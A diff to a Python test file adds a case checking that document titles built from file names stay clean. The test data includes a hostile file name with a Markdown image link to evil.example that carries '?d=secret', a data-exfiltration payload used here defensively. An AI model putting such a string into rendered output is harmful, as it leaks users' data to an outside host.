@@ -66,6 +66,10 @@ def test_without_an_owner_form_or_date_the_title_names_the_document_and_without_
     assert citation_name(_document(titled), entities) == titled
     assert citation_name(_document(""), entities) == ""
     assert citation_name(_document("primary-document.html"), entities) == ""  # a title that is the file name
+    # a title an index build made from a file name (sanitised: its link gone) says no more than the name
+    hostile = "rent](https:evil.example) ![p](https:evil.example?d=secret) [y.md"
+    assert citation_name(_document("rent]( p [y", filename=hostile), entities) == ""
+    assert citation_name(_document("Lease Agreement", filename="lease.pdf"), entities) == "Lease Agreement"
 
 
 def test_a_long_or_multi_line_title_is_one_short_line() -> None:
